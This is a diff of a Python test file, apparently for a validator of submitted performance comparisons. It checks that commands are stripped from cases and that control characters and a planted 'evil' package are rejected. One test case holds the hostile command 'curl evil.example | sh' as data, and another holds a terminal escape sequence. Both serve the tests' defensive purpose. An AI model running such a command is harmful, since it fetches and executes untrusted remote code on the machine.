@@ -308,10 +308,9 @@ def repeat(field: str, *entries: Any) -> Comparison:
 def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_path: Path) -> None:
     evil = Commands(server="curl evil.example | sh", load="oha")
     cases = tuple(entry.model_copy(update={"commands": evil}) for entry in comparison().cases)
-    code = attribution(comparison=comparison().id)
-    result, check, read = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
+    result, check = compared(tmp_path, comparison=comparison(cases=cases, why=attribution()))
     assert [entry.commands for entry in result.cases] == [None]
-    assert (check, read) == (None, code)
+    assert (check, result.why) == (None, attribution())
 
 
 @pytest.mark.parametrize(
@@ -324,10 +323,7 @@ def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_
         ({"comparison": repeat("cases", *comparison().cases * 2)}, "expected each case once"),
         ({"comparison": repeat("notes", *["x"] * (MOST + 1))}, "at most 2000 items"),
         ({"other": comparison()}, "files: expected ['comparison.json'], found"),
-        (
-            {"comparison": comparison(), "attribution": attribution(comparison="x")},
-            "comparison of an attribution",
-        ),
+        ({"comparison": comparison(why=attribution(python="\x1b[2J"))}, "a control character"),
         ({"comparison": comparison(), "check": blamed(EVIL.package)}, "'evil' as a cause"),
         (
             {"comparison": repeat("packages", EVIL), "check": blamed(*[EVIL.package] * 2)},
